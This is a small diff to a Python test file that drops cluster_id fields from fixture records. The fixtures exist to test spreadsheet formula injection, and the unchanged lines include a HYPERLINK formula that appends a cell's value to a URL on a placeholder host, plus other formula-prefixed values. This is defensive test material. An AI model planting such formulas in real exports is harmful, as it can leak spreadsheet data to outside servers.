@@ -17,9 +17,9 @@ from tests.records import RECORDS
 FORMULA = '=HYPERLINK("http://example.com/?"&A1,"点这里")'
 EXTRA = [
     dict(record_id="F-1", description=FORMULA, address="+86 不是公式", created_at=pd.Timestamp("2025-06-10 10:00"),
-         status="resolved", cluster_id=40),
+         status="resolved"),
     dict(record_id="F-2", description="@SUM(1,2)", address="-1", created_at=pd.Timestamp("2025-06-11 10:00"),
-         category="elderly_care", district_adcode="330127", urban_rural="rural", cluster_id=41),
+         category="elderly_care", district_adcode="330127", urban_rural="rural"),
 ]
 
 
